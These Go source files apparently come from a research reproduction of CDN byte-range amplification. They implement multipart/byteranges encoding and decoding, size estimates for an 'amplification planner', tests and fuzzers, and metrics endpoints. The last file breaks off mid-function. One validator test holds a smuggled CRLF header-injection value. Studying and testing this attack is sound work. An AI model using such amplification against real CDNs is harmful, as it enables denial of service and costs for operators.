func ParseContentTypeValue(v string) (boundary string, ok bool) {
	const prefix = "multipart/byteranges"
	if !strings.HasPrefix(strings.ToLower(strings.TrimSpace(v)), prefix) {
		return "", false
	}
	for _, param := range strings.Split(v, ";")[1:] {
		param = strings.TrimSpace(param)
		if rest, found := strings.CutPrefix(param, "boundary="); found {
			b := strings.Trim(rest, `"`)
			if !ValidBoundary(b) {
				return "", false
			}
			return b, true
		}
	}
	return "", false
}

// ValidBoundary reports whether b satisfies the RFC 2046 §5.1.1
// boundary grammar: 1–70 characters from the bchars set, not ending in
// a space.
func ValidBoundary(b string) bool {
	if len(b) == 0 || len(b) > 70 || b[len(b)-1] == ' ' {
		return false
	}
	for i := 0; i < len(b); i++ {
		c := b[i]
		switch {
		case 'a' <= c && c <= 'z', 'A' <= c && c <= 'Z', '0' <= c && c <= '9':
		case c == '\'' || c == '(' || c == ')' || c == '+' || c == '_' ||
			c == ',' || c == '-' || c == '.' || c == '/' || c == ':' ||
			c == '=' || c == '?' || c == ' ':
		default:
			return false
		}
	}
	return true
}

// partHeaderSize returns the serialized size of one part's header block:
// dash-boundary line, Content-Type, Content-Range, extras, blank line.
// It is allocation-free: the Content-Range length is computed
// numerically instead of rendering the header value.
func (m *Message) partHeaderSize(p Part) int64 {
	n := 2 + len(m.Boundary) + 2 // "--boundary\r\n"
	n += len("Content-Type: ") + len(p.ContentType) + 2
	n += len("Content-Range: ") + contentRangeLen(p.Window, m.CompleteLength) + 2
	n += p.Extra.WireSize()
	n += 2 // blank line
	return int64(n)
}

// contentRangeLen is len(w.ContentRange(complete)) without the
// allocation: len("bytes a-b/L").
func contentRangeLen(w ranges.Resolved, complete int64) int {
	return len("bytes ") + decLen(w.Offset) + 1 + decLen(w.End()) + 1 + decLen(complete)
}

// decLen returns the length of strconv.FormatInt(v, 10).
func decLen(v int64) int {
	n := 1
	if v < 0 {
		n++ // sign
		if v == -1<<63 {
			v = 1 << 62 // avoid negation overflow; same digit count
		} else {
			v = -v
		}
	}
	for v >= 10 {
		v /= 10
		n++
	}
	return n
}

// appendContentRange appends "bytes a-b/L" to dst.
func appendContentRange(dst []byte, w ranges.Resolved, complete int64) []byte {
	dst = append(dst, "bytes "...)
	dst = strconv.AppendInt(dst, w.Offset, 10)
	dst = append(dst, '-')
	dst = strconv.AppendInt(dst, w.End(), 10)
	dst = append(dst, '/')
	return strconv.AppendInt(dst, complete, 10)
}

// EncodedSize returns the exact byte size Encode would produce, without
// allocating the body. This is what the max-n amplification planner uses.
func (m *Message) EncodedSize() int64 {
	var n int64
	for _, p := range m.Parts {
		n += m.partHeaderSize(p) + int64(len(p.Data)) + 2 // trailing CRLF
	}
	n += int64(2 + len(m.Boundary) + 4) // "--boundary--\r\n"
	return n
}

// partScratchPool recycles the per-message header scratch buffer the
// streaming encoder renders boundary lines and part headers into. Part
// headers are small (~100 B); the cap bounds what a message with huge
// extra headers can pin in the pool.
var partScratchPool = sync.Pool{
	New: func() any {
		b := make([]byte, 0, 512)
		return &b
	},
}

const maxPooledPartScratch = 16 << 10

// Encode serializes the multipart body into one freshly allocated
// slice. It is a WriteTo-into-buffer wrapper kept for callers that need
// the joined bytes; the wire path streams with WriteTo/EncodeTo and
// never materializes the body.
func (m *Message) Encode() []byte {
	var b bytes.Buffer
	b.Grow(int(m.EncodedSize()))
	m.EncodeTo(&b) //nolint:errcheck // bytes.Buffer cannot fail
	return b.Bytes()
}

// WriteTo streams the serialized body to w, implementing io.WriterTo
// (so a Message can be installed directly as an httpwire body stream).
// It writes exactly EncodedSize bytes and is replayable.
func (m *Message) WriteTo(w io.Writer) (int64, error) {
	return m.EncodeTo(w)
}

// EncodeTo streams the multipart body to w without ever building the
// joined body: part headers are rendered into a pooled scratch buffer
// and each Part.Data window is written directly from its backing array
// (which on the serving path is the shared resource store). This is the
// BCDN's hot path during an OBR flood — an n-part body costs O(part
// header) scratch instead of O(n·part) heap.
func (m *Message) EncodeTo(w io.Writer) (int64, error) {
	sp := partScratchPool.Get().(*[]byte)
	b := (*sp)[:0]
	var total int64
	flush := func() error {
		if len(b) == 0 {
			return nil
		}
		n, err := w.Write(b)
		total += int64(n)
		b = b[:0]
		return err
	}
	for i := range m.Parts {
		p := &m.Parts[i]
		// Header block; the data-terminating CRLF of the previous part
		// rides in front of this boundary line (appended below), so each
		// part costs two writes: header scratch, then the data window.
		b = append(b, '-', '-')
		b = append(b, m.Boundary...)
		b = append(b, '\r', '\n')
		b = append(b, "Content-Type: "...)
		b = append(b, p.ContentType...)
		b = append(b, '\r', '\n')
		b = append(b, "Content-Range: "...)
		b = appendContentRange(b, p.Window, m.CompleteLength)
		b = append(b, '\r', '\n')
		for _, h := range p.Extra {
			b = append(b, h.Name...)
			b = append(b, ':', ' ')
			b = append(b, h.Value...)
			b = append(b, '\r', '\n')
		}
		b = append(b, '\r', '\n')
		if err := flush(); err != nil {
			putPartScratch(sp, b)
			return total, err
		}
		n, err := w.Write(p.Data)
		total += int64(n)
		if err != nil {
			putPartScratch(sp, b)
			return total, err
		}
		b = append(b, '\r', '\n') // terminates the data just written
	}
	b = append(b, '-', '-')
	b = append(b, m.Boundary...)
	b = append(b, "--\r\n"...)
	err := flush()
	putPartScratch(sp, b)
	return total, err
}

// putPartScratch returns the scratch buffer to the pool unless it grew
// past the retention cap.
func putPartScratch(sp *[]byte, b []byte) {
	if cap(b) > maxPooledPartScratch {
		return
	}
	*sp = b[:0]
	partScratchPool.Put(sp)
}

// Decode errors.
var (
	ErrBadBoundary = errors.New("multipart: body does not start with the boundary")
	ErrBadPart     = errors.New("multipart: malformed body part")
)

// Decode parses a multipart/byteranges body produced by Encode (or an
// equivalent serialization) using the given boundary.
func Decode(body []byte, boundary string) (*Message, error) {
	m := &Message{Boundary: boundary}
	delim := []byte("--" + boundary + "\r\n")
	closer := []byte("--" + boundary + "--")
	rest := body
	for {
		if bytes.HasPrefix(rest, closer) {
			return m, nil
		}
		if !bytes.HasPrefix(rest, delim) {
			return nil, fmt.Errorf("%w (at offset %d)", ErrBadBoundary, len(body)-len(rest))
		}
		rest = rest[len(delim):]
		headerEnd := bytes.Index(rest, []byte("\r\n\r\n"))
		if headerEnd < 0 {
			return nil, fmt.Errorf("%w: missing header terminator", ErrBadPart)
		}
		var part Part
		for _, line := range strings.Split(string(rest[:headerEnd]), "\r\n") {
			name, value, found := strings.Cut(line, ":")
			if !found {
				return nil, fmt.Errorf("%w: header %q", ErrBadPart, line)
			}
			value = strings.TrimSpace(value)
			switch strings.ToLower(name) {
			case "content-type":
				part.ContentType = value
			case "content-range":
				w, complete, err := parseContentRange(value)
				if err != nil {
					return nil, err
				}
				part.Window = w
				m.CompleteLength = complete
			default:
				part.Extra.Add(name, value)
			}
		}
		rest = rest[headerEnd+4:]
		if int64(len(rest)) < part.Window.Length+2 {
			return nil, fmt.Errorf("%w: truncated data", ErrBadPart)
		}
		part.Data = append([]byte(nil), rest[:part.Window.Length]...)
		rest = rest[part.Window.Length:]
		if !bytes.HasPrefix(rest, []byte("\r\n")) {
			return nil, fmt.Errorf("%w: missing data terminator", ErrBadPart)
		}
		rest = rest[2:]
		m.Parts = append(m.Parts, part)
	}
}

// parseContentRange parses "bytes a-b/L".
func parseContentRange(v string) (ranges.Resolved, int64, error) {
	var first, last, complete int64
	if _, err := fmt.Sscanf(v, "bytes %d-%d/%d", &first, &last, &complete); err != nil {
		return ranges.Resolved{}, 0, fmt.Errorf("%w: Content-Range %q", ErrBadPart, v)
	}
	if last < first || first < 0 {
		return ranges.Resolved{}, 0, fmt.Errorf("%w: Content-Range %q", ErrBadPart, v)
	}
	return ranges.Resolved{Offset: first, Length: last - first + 1}, complete, nil
}

// PartOverhead returns the non-payload bytes one part adds for a window
// resolved against a resource of completeLength: boundary line, part
// headers, blank line and trailing CRLF. Useful for closed-form
// amplification estimates (fcdn-bcdn traffic ≈ n·(payload+overhead)).
func PartOverhead(boundary, contentType string, w ranges.Resolved, completeLength int64, extra httpwire.Headers) int64 {
	m := Message{Boundary: boundary, CompleteLength: completeLength}
	return m.partHeaderSize(Part{ContentType: contentType, Window: w, Extra: extra}) + 2
}
