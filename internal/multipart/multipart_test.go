package multipart

import (
	"bytes"
	"strings"
	"testing"
	"testing/quick"

	"repro/internal/ranges"
)

func twoPartMessage() *Message {
	return &Message{
		Boundary:       DefaultBoundary,
		CompleteLength: 1000,
		Parts: []Part{
			{ContentType: "image/jpeg", Window: ranges.Resolved{Offset: 1, Length: 1}, Data: []byte{0xff}},
			{ContentType: "image/jpeg", Window: ranges.Resolved{Offset: 998, Length: 2}, Data: []byte{0xd9, 0x00}},
		},
	}
}

func TestEncodeMatchesPaperFigure(t *testing.T) {
	// Fig 2d: multipart response to "Range: bytes=1-1,-2" on a 1000-byte
	// resource.
	body := string(twoPartMessage().Encode())
	for _, want := range []string{
		"--THIS_STRING_SEPARATES\r\n",
		"Content-Type: image/jpeg\r\n",
		"Content-Range: bytes 1-1/1000\r\n",
		"Content-Range: bytes 998-999/1000\r\n",
		"--THIS_STRING_SEPARATES--\r\n",
	} {
		if !strings.Contains(body, want) {
			t.Errorf("encoded body missing %q:\n%s", want, body)
		}
	}
}

func TestEncodedSizeMatchesEncode(t *testing.T) {
	m := twoPartMessage()
	if got, want := m.EncodedSize(), int64(len(m.Encode())); got != want {
		t.Errorf("EncodedSize = %d, len(Encode) = %d", got, want)
	}
}

func TestContentTypeValueRoundTrip(t *testing.T) {
	m := &Message{Boundary: "abc123"}
	v := m.ContentTypeValue()
	if v != "multipart/byteranges; boundary=abc123" {
		t.Errorf("ContentTypeValue = %q", v)
	}
	b, ok := ParseContentTypeValue(v)
	if !ok || b != "abc123" {
		t.Errorf("ParseContentTypeValue = %q,%v", b, ok)
	}
}

func TestParseContentTypeValueRejects(t *testing.T) {
	tests := []string{
		"image/jpeg",
		"multipart/byteranges",
		"multipart/byteranges; charset=utf8",
		"multipart/byteranges; boundary=",
	}
	for _, v := range tests {
		if b, ok := ParseContentTypeValue(v); ok {
			t.Errorf("ParseContentTypeValue(%q) = %q, want rejection", v, b)
		}
	}
}

func TestParseContentTypeValueQuoted(t *testing.T) {
	b, ok := ParseContentTypeValue(`multipart/byteranges; boundary="xyz"`)
	if !ok || b != "xyz" {
		t.Errorf("got %q,%v", b, ok)
	}
}

func TestDecodeRoundTrip(t *testing.T) {
	m := twoPartMessage()
	got, err := Decode(m.Encode(), m.Boundary)
	if err != nil {
		t.Fatal(err)
	}
	if len(got.Parts) != 2 || got.CompleteLength != 1000 {
		t.Fatalf("decoded %d parts, complete=%d", len(got.Parts), got.CompleteLength)
	}
	for i := range got.Parts {
		if got.Parts[i].Window != m.Parts[i].Window {
			t.Errorf("part %d window = %+v, want %+v", i, got.Parts[i].Window, m.Parts[i].Window)
		}
		if !bytes.Equal(got.Parts[i].Data, m.Parts[i].Data) {
			t.Errorf("part %d data mismatch", i)
		}
		if got.Parts[i].ContentType != "image/jpeg" {
			t.Errorf("part %d content type = %q", i, got.Parts[i].ContentType)
		}
	}
}

func TestDecodeWithExtraHeaders(t *testing.T) {
	m := twoPartMessage()
	m.Parts[0].Extra.Add("X-Vendor", "azure")
	got, err := Decode(m.Encode(), m.Boundary)
	if err != nil {
		t.Fatal(err)
	}
	if v, ok := got.Parts[0].Extra.Get("X-Vendor"); !ok || v != "azure" {
		t.Errorf("extra header = %q,%v", v, ok)
	}
	if got.EncodedSize() != m.EncodedSize() {
		t.Errorf("size after round trip: %d != %d", got.EncodedSize(), m.EncodedSize())
	}
}

func TestDecodeErrors(t *testing.T) {
	good := twoPartMessage().Encode()
	tests := []struct {
		name string
		body []byte
	}{
		{"wrong-boundary-prefix", []byte("--WRONG\r\n")},
		{"missing-header-end", []byte("--THIS_STRING_SEPARATES\r\nContent-Type: x\r\n")},
		{"truncated-data", good[:len(good)-30]},
		{"garbage", []byte("hello")},
		{"bad-content-range", []byte("--B\r\nContent-Range: bytes x-y/z\r\n\r\n\r\n--B--\r\n")},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			boundary := DefaultBoundary
			if tt.name == "bad-content-range" {
				boundary = "B"
			}
			if _, err := Decode(tt.body, boundary); err == nil {
				t.Error("Decode succeeded, want error")
			}
		})
	}
}

func TestOBRShapeNPartSize(t *testing.T) {
	// n overlapping "0-" parts of a 1 KiB resource: the encoded size must
	// be n*(1024+overhead)+closer, i.e. roughly n times the resource.
	const n = 100
	data := bytes.Repeat([]byte{0xab}, 1024)
	m := &Message{Boundary: DefaultBoundary, CompleteLength: 1024}
	for i := 0; i < n; i++ {
		m.Parts = append(m.Parts, Part{
			ContentType: "application/octet-stream",
			Window:      ranges.Resolved{Offset: 0, Length: 1024},
			Data:        data,
		})
	}
	size := m.EncodedSize()
	if size < n*1024 {
		t.Fatalf("EncodedSize = %d, want >= %d", size, n*1024)
	}
	perPart := PartOverhead(DefaultBoundary, "application/octet-stream",
		ranges.Resolved{Offset: 0, Length: 1024}, 1024, nil) + 1024
	want := n*perPart + int64(2+len(DefaultBoundary)+4)
	if size != want {
		t.Errorf("EncodedSize = %d, closed form = %d", size, want)
	}
	if int64(len(m.Encode())) != size {
		t.Errorf("Encode length mismatch")
	}
}

func TestEncodedSizeEmptyMessage(t *testing.T) {
	m := &Message{Boundary: "B"}
	if got, want := m.EncodedSize(), int64(len(m.Encode())); got != want {
		t.Errorf("empty message: EncodedSize=%d len(Encode)=%d", got, want)
	}
}

func TestEncodeDecodeProperty(t *testing.T) {
	f := func(chunks [][]byte, complete uint16) bool {
		m := &Message{Boundary: "bnd", CompleteLength: int64(complete) + 1<<16}
		var off int64
		for _, c := range chunks {
			if len(c) == 0 {
				continue
			}
			m.Parts = append(m.Parts, Part{
				ContentType: "application/octet-stream",
				Window:      ranges.Resolved{Offset: off, Length: int64(len(c))},
				Data:        c,
			})
			off += int64(len(c))
		}
		enc := m.Encode()
		if int64(len(enc)) != m.EncodedSize() {
			return false
		}
		got, err := Decode(enc, "bnd")
		if err != nil {
			return false
		}
		if len(got.Parts) != len(m.Parts) {
			return false
		}
		for i := range got.Parts {
			if !bytes.Equal(got.Parts[i].Data, m.Parts[i].Data) {
				return false
			}
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 300}); err != nil {
		t.Error(err)
	}
}
