package multipart

import (
	"bytes"
	"testing"

	"repro/internal/ranges"
)

func FuzzDecode(f *testing.F) {
	good := (&Message{
		Boundary:       "bnd",
		CompleteLength: 10,
		Parts: []Part{{
			ContentType: "text/plain",
			Window:      windowOf(0, 3),
			Data:        []byte("abc"),
		}},
	}).Encode()
	f.Add(good, "bnd")
	f.Add([]byte("--bnd--\r\n"), "bnd")
	f.Add([]byte("garbage"), "bnd")
	f.Add(good[:len(good)-5], "bnd")
	f.Fuzz(func(t *testing.T, body []byte, boundary string) {
		if len(boundary) == 0 || len(boundary) > 70 {
			return
		}
		msg, err := Decode(body, boundary)
		if err != nil {
			return
		}
		// Accepted messages re-encode to something the decoder accepts
		// again with identical parts.
		enc := msg.Encode()
		if int64(len(enc)) != msg.EncodedSize() {
			t.Fatal("EncodedSize mismatch after decode")
		}
		again, err := Decode(enc, boundary)
		if err != nil {
			t.Fatalf("re-decode failed: %v", err)
		}
		if len(again.Parts) != len(msg.Parts) {
			t.Fatal("part count changed")
		}
		for i := range again.Parts {
			if !bytes.Equal(again.Parts[i].Data, msg.Parts[i].Data) {
				t.Fatalf("part %d data changed", i)
			}
		}
	})
}

// windowOf builds a resolved window for fuzz seeds.
func windowOf(off, length int64) ranges.Resolved {
	return ranges.Resolved{Offset: off, Length: length}
}
