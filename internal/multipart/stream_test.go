package multipart

import (
	"bytes"
	"fmt"
	"io"
	"math/rand"
	"strings"
	"testing"

	"repro/internal/httpwire"
	"repro/internal/ranges"
)

// randomMessage builds a message with pseudo-random boundary, part
// count, windows, data and extra headers from a seeded source, so the
// differential tests cover many encoder shapes deterministically.
func randomMessage(rng *rand.Rand) *Message {
	const bchars = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789'()+_,-./:=?"
	blen := 1 + rng.Intn(70)
	b := make([]byte, blen)
	for i := range b {
		b[i] = bchars[rng.Intn(len(bchars)-1)] // avoid trailing-space issues entirely
	}
	m := &Message{Boundary: string(b), CompleteLength: int64(1 + rng.Intn(1<<20))}
	for p := 0; p < rng.Intn(8); p++ {
		data := make([]byte, rng.Intn(512))
		rng.Read(data)
		part := Part{
			ContentType: "application/octet-stream",
			Window:      ranges.Resolved{Offset: int64(rng.Intn(1000)), Length: int64(len(data))},
			Data:        data,
		}
		for e := 0; e < rng.Intn(3); e++ {
			part.Extra.Add(fmt.Sprintf("X-Extra-%d", e), strings.Repeat("v", rng.Intn(40)))
		}
		m.Parts = append(m.Parts, part)
	}
	return m
}

// legacyEncode is the pre-streaming reference serialization, kept here
// verbatim so the differential tests compare against an independent
// implementation rather than Encode (which now wraps EncodeTo).
func legacyEncode(m *Message) []byte {
	var b bytes.Buffer
	for _, p := range m.Parts {
		fmt.Fprintf(&b, "--%s\r\n", m.Boundary)
		fmt.Fprintf(&b, "Content-Type: %s\r\n", p.ContentType)
		fmt.Fprintf(&b, "Content-Range: %s\r\n", p.Window.ContentRange(m.CompleteLength))
		for _, h := range p.Extra {
			fmt.Fprintf(&b, "%s: %s\r\n", h.Name, h.Value)
		}
		b.WriteString("\r\n")
		b.Write(p.Data)
		b.WriteString("\r\n")
	}
	fmt.Fprintf(&b, "--%s--\r\n", m.Boundary)
	return b.Bytes()
}

func TestWriteToMatchesLegacyEncode(t *testing.T) {
	rng := rand.New(rand.NewSource(4))
	for i := 0; i < 200; i++ {
		m := randomMessage(rng)
		want := legacyEncode(m)
		var buf bytes.Buffer
		n, err := m.WriteTo(&buf)
		if err != nil {
			t.Fatal(err)
		}
		if !bytes.Equal(buf.Bytes(), want) {
			t.Fatalf("case %d: WriteTo output differs from legacy encoding", i)
		}
		if !bytes.Equal(m.Encode(), want) {
			t.Fatalf("case %d: Encode output differs from legacy encoding", i)
		}
		if n != int64(len(want)) || m.EncodedSize() != n {
			t.Fatalf("case %d: wrote %d bytes, EncodedSize %d, want %d",
				i, n, m.EncodedSize(), len(want))
		}
	}
}

// shortWriter accepts limited bytes then fails, exercising the error
// paths of the streaming encoder.
type shortWriter struct{ room int }

func (w *shortWriter) Write(p []byte) (int, error) {
	if len(p) > w.room {
		n := w.room
		w.room = 0
		return n, io.ErrShortWrite
	}
	w.room -= len(p)
	return len(p), nil
}

func TestEncodeToShortWriteCountsBytes(t *testing.T) {
	m := twoPartMessage()
	size := m.EncodedSize()
	for room := 0; int64(room) < size; room += 7 {
		n, err := m.EncodeTo(&shortWriter{room: room})
		if err == nil {
			t.Fatalf("room=%d: want error", room)
		}
		if n > int64(room) {
			t.Fatalf("room=%d: reported %d bytes written", room, n)
		}
	}
}

func TestWriteToIsReplayable(t *testing.T) {
	m := twoPartMessage()
	first := m.Encode()
	var again bytes.Buffer
	if _, err := m.WriteTo(&again); err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(first, again.Bytes()) {
		t.Fatal("second WriteTo differs from first encoding")
	}
}

func FuzzEncodeParity(f *testing.F) {
	f.Add("bnd", []byte("abc"), int64(0), int64(100), "X-Cache", "HIT")
	f.Add("THIS_STRING_SEPARATES", []byte{}, int64(5), int64(10), "", "")
	f.Fuzz(func(t *testing.T, boundary string, data []byte, offset, complete int64, hn, hv string) {
		if !ValidBoundary(boundary) || offset < 0 {
			return
		}
		m := &Message{Boundary: boundary, CompleteLength: complete}
		part := Part{
			ContentType: "application/octet-stream",
			Window:      ranges.Resolved{Offset: offset, Length: int64(len(data))},
			Data:        data,
		}
		if hn != "" && !strings.ContainsAny(hn, ":\r\n ") && !strings.ContainsAny(hv, "\r\n") {
			part.Extra = httpwire.Headers{{Name: hn, Value: hv}}
		}
		m.Parts = []Part{part, part}
		var buf bytes.Buffer
		n, err := m.WriteTo(&buf)
		if err != nil {
			t.Fatalf("WriteTo: %v", err)
		}
		if n != m.EncodedSize() || n != int64(buf.Len()) {
			t.Fatalf("wrote %d, buffered %d, EncodedSize %d", n, buf.Len(), m.EncodedSize())
		}
		if !bytes.Equal(buf.Bytes(), m.Encode()) {
			t.Fatal("WriteTo and Encode disagree")
		}
	})
}

func TestParseContentTypeValueBoundaryValidation(t *testing.T) {
	tests := []struct {
		in   string
		want string
		ok   bool
	}{
		{`multipart/byteranges; boundary=THIS_STRING_SEPARATES`, "THIS_STRING_SEPARATES", true},
		{`multipart/byteranges; boundary="quoted"`, "quoted", true},
		{`multipart/byteranges; boundary=a`, "a", true},
		{`multipart/byteranges; boundary=` + strings.Repeat("b", 70), strings.Repeat("b", 70), true},
		// The historical bug: quoted-empty parsed as ok=true with "".
		{`multipart/byteranges; boundary=""`, "", false},
		{`multipart/byteranges; boundary=`, "", false},
		{`multipart/byteranges; boundary=` + strings.Repeat("b", 71), "", false},
		{`multipart/byteranges; boundary="ends in space "`, "", false},
		{`multipart/byteranges; boundary=bad{chars}`, "", false},
		{`multipart/byteranges; boundary=tab	char`, "", false},
		{`text/plain; boundary=x`, "", false},
	}
	for _, tc := range tests {
		got, ok := ParseContentTypeValue(tc.in)
		if ok != tc.ok || got != tc.want {
			t.Errorf("ParseContentTypeValue(%q) = %q,%v, want %q,%v", tc.in, got, ok, tc.want, tc.ok)
		}
	}
}

func TestValidBoundary(t *testing.T) {
	for b, want := range map[string]bool{
		"":                          false,
		"a":                         true,
		"has space inside":          true,
		"trailing space ":           false,
		strings.Repeat("x", 70):     true,
		strings.Repeat("x", 71):     false,
		"ok'()+_,-./:=?":            true,
		"no@sign":                   false,
		"no\"quote":                 false,
		"THIS_STRING_SEPARATES":     true,
		"3d6b6a416f9b5\r\ninjected": false,
	} {
		if got := ValidBoundary(b); got != want {
			t.Errorf("ValidBoundary(%q) = %v, want %v", b, got, want)
		}
	}
}
