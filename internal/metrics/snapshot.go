package metrics

import (
	"fmt"
	"io"
	"sort"
	"strings"
)

// Sample is one series' state inside a Snapshot. For counters and
// gauges only Value is set; histograms carry Count (also mirrored in
// Value), Sum and the per-bucket (non-cumulative) occupancy aligned
// with Bounds.
type Sample struct {
	Name    string  `json:"name"`
	Labels  []Label `json:"labels,omitempty"`
	Kind    Kind    `json:"-"`
	Value   int64   `json:"value"`
	Sum     int64   `json:"sum,omitempty"`
	Buckets []int64 `json:"-"`
	Bounds  []int64 `json:"-"`
	// Exemplar is the trace id recorded by the series' latest IncEx
	// (counters only): the bridge from an aggregate spike to the
	// concrete request tree that caused it.
	Exemplar string `json:"exemplar,omitempty"`
}

// key renders the sample's identity (name + canonical labels).
func (s Sample) key() string {
	if len(s.Labels) == 0 {
		return s.Name
	}
	var b strings.Builder
	b.WriteString(s.Name)
	b.WriteByte('{')
	for i, l := range s.Labels {
		if i > 0 {
			b.WriteByte(',')
		}
		b.WriteString(l.Key)
		b.WriteByte('=')
		b.WriteString(l.Value)
	}
	b.WriteByte('}')
	return b.String()
}

// Snapshot is a point-in-time copy of a registry's series, comparable
// with Delta the way measure.ProbeDelta diffs segment traffic.
type Snapshot struct {
	samples []Sample
	index   map[string]int
}

// Snapshot copies every series' current state.
func (r *Registry) Snapshot() *Snapshot {
	snap := &Snapshot{index: make(map[string]int)}
	r.visit(func(f *family, _ string, s *series) {
		sample := Sample{Name: f.name, Labels: s.labels, Kind: f.kind}
		switch f.kind {
		case KindCounter:
			sample.Value = s.counter.Value()
			sample.Exemplar = s.counter.Exemplar()
		case KindGauge:
			sample.Value = s.gauge.Value()
		case KindHistogram:
			sample.Value = s.hist.Count()
			sample.Sum = s.hist.Sum()
			sample.Bounds = f.bounds
			sample.Buckets = make([]int64, len(s.hist.buckets))
			for i := range s.hist.buckets {
				sample.Buckets[i] = s.hist.buckets[i].Load()
			}
		}
		snap.index[sample.key()] = len(snap.samples)
		snap.samples = append(snap.samples, sample)
	})
	return snap
}

// Samples returns the snapshot's samples in registration order.
func (s *Snapshot) Samples() []Sample {
	if s == nil {
		return nil
	}
	return s.samples
}

// Value returns the sample value for a series (counter/gauge value,
// histogram observation count), or 0 when the series is absent. Labels
// may be given in any order.
func (s *Snapshot) Value(name string, labels ...Label) int64 {
	if s == nil {
		return 0
	}
	_, sorted := canonicalize(labels)
	i, ok := s.index[Sample{Name: name, Labels: sorted}.key()]
	if !ok {
		return 0
	}
	return s.samples[i].Value
}

// Delta returns s - prev, series by series. Series absent from prev
// count from zero; gauges carry their current value through unchanged
// (a level, not an accumulation). Series that did not change are
// dropped, so a delta reads as "what this run did".
func (s *Snapshot) Delta(prev *Snapshot) *Snapshot {
	if s == nil {
		return nil
	}
	out := &Snapshot{index: make(map[string]int)}
	for _, cur := range s.samples {
		d := cur
		if prev != nil {
			if i, ok := prev.index[cur.key()]; ok {
				p := prev.samples[i]
				switch cur.Kind {
				case KindGauge:
					// levels pass through
				default:
					d.Value = cur.Value - p.Value
					d.Sum = cur.Sum - p.Sum
					if len(p.Buckets) == len(cur.Buckets) {
						d.Buckets = make([]int64, len(cur.Buckets))
						for bi := range cur.Buckets {
							d.Buckets[bi] = cur.Buckets[bi] - p.Buckets[bi]
						}
					}
				}
			}
		}
		if d.Value == 0 && d.Sum == 0 && d.Kind != KindGauge {
			continue
		}
		out.index[d.key()] = len(out.samples)
		out.samples = append(out.samples, d)
	}
	return out
}

// WriteText renders the snapshot as an aligned two-column table, one
// series per line (the -metrics output of cmd/rangeamp). Histograms
// print their count and sum.
func (s *Snapshot) WriteText(w io.Writer) error {
	if s == nil || len(s.samples) == 0 {
		_, err := fmt.Fprintln(w, "(no metrics)")
		return err
	}
	type line struct{ key, val string }
	lines := make([]line, 0, len(s.samples))
	width := 0
	for _, sm := range s.samples {
		var val string
		switch sm.Kind {
		case KindHistogram:
			val = fmt.Sprintf("count=%d sum=%d", sm.Value, sm.Sum)
		default:
			val = fmt.Sprintf("%d", sm.Value)
			if sm.Exemplar != "" {
				val += "  # trace=" + sm.Exemplar
			}
		}
		k := sm.key()
		if len(k) > width {
			width = len(k)
		}
		lines = append(lines, line{k, val})
	}
	sort.Slice(lines, func(i, j int) bool { return lines[i].key < lines[j].key })
	for _, l := range lines {
		if _, err := fmt.Fprintf(w, "%-*s  %s\n", width, l.key, l.val); err != nil {
			return err
		}
	}
	return nil
}
