package metrics

import (
	"net/http"
	"net/http/pprof"
)

// Handler serves the registry in Prometheus text exposition format —
// the body a scrape of /metrics returns.
func (r *Registry) Handler() http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "text/plain; version=0.0.4; charset=utf-8")
		r.WritePrometheus(w) //nolint:errcheck // client went away
	})
}

// NewDebugMux mounts the operational endpoints the cmd daemons serve on
// their -metrics-addr listener: /metrics (Prometheus text) and the
// net/http/pprof profile suite under /debug/pprof/.
func NewDebugMux(r *Registry) *http.ServeMux {
	mux := http.NewServeMux()
	mux.Handle("/metrics", r.Handler())
	mux.HandleFunc("/debug/pprof/", pprof.Index)
	mux.HandleFunc("/debug/pprof/cmdline", pprof.Cmdline)
	mux.HandleFunc("/debug/pprof/profile", pprof.Profile)
	mux.HandleFunc("/debug/pprof/symbol", pprof.Symbol)
	mux.HandleFunc("/debug/pprof/trace", pprof.Trace)
	return mux
}
