package metrics

import (
	"fmt"
	"io"
	"strconv"
	"strings"
)

// WritePrometheus renders every family in Prometheus text exposition
// format (version 0.0.4): # HELP and # TYPE comments, then one line
// per series, with histograms expanded into cumulative _bucket series
// plus _sum and _count.
func (r *Registry) WritePrometheus(w io.Writer) error {
	var err error
	var lastFamily string
	r.visit(func(f *family, _ string, s *series) {
		if err != nil {
			return
		}
		if f.name != lastFamily {
			lastFamily = f.name
			if f.help != "" {
				if _, err = fmt.Fprintf(w, "# HELP %s %s\n", f.name, escapeHelp(f.help)); err != nil {
					return
				}
			}
			if _, err = fmt.Fprintf(w, "# TYPE %s %s\n", f.name, f.kind); err != nil {
				return
			}
		}
		switch f.kind {
		case KindCounter:
			if err = writeSample(w, f.name, s.labels, "", "", s.counter.Value()); err != nil {
				return
			}
			// Exemplar-lite: the 0.0.4 text format has no exemplar
			// syntax, so the latest trace id rides on a comment line
			// (ignored by parsers, read by humans chasing a spike).
			if ex := s.counter.Exemplar(); ex != "" {
				_, err = fmt.Fprintf(w, "# exemplar: %s trace_id=\"%s\"\n", f.name, ex)
			}
		case KindGauge:
			err = writeSample(w, f.name, s.labels, "", "", s.gauge.Value())
		case KindHistogram:
			cum := int64(0)
			for i := range s.hist.buckets {
				cum += s.hist.buckets[i].Load()
				le := "+Inf"
				if i < len(f.bounds) {
					le = strconv.FormatInt(f.bounds[i], 10)
				}
				if err = writeSample(w, f.name+"_bucket", s.labels, "le", le, cum); err != nil {
					return
				}
			}
			if err = writeSample(w, f.name+"_sum", s.labels, "", "", s.hist.Sum()); err != nil {
				return
			}
			err = writeSample(w, f.name+"_count", s.labels, "", "", s.hist.Count())
		}
	})
	return err
}

// writeSample renders one exposition line, appending an optional extra
// label (the histogram "le").
func writeSample(w io.Writer, name string, labels []Label, extraKey, extraVal string, value int64) error {
	var b strings.Builder
	b.WriteString(name)
	if len(labels) > 0 || extraKey != "" {
		b.WriteByte('{')
		for i, l := range labels {
			if i > 0 {
				b.WriteByte(',')
			}
			b.WriteString(l.Key)
			b.WriteString(`="`)
			b.WriteString(escapeLabel(l.Value))
			b.WriteByte('"')
		}
		if extraKey != "" {
			if len(labels) > 0 {
				b.WriteByte(',')
			}
			b.WriteString(extraKey)
			b.WriteString(`="`)
			b.WriteString(escapeLabel(extraVal))
			b.WriteByte('"')
		}
		b.WriteByte('}')
	}
	b.WriteByte(' ')
	b.WriteString(strconv.FormatInt(value, 10))
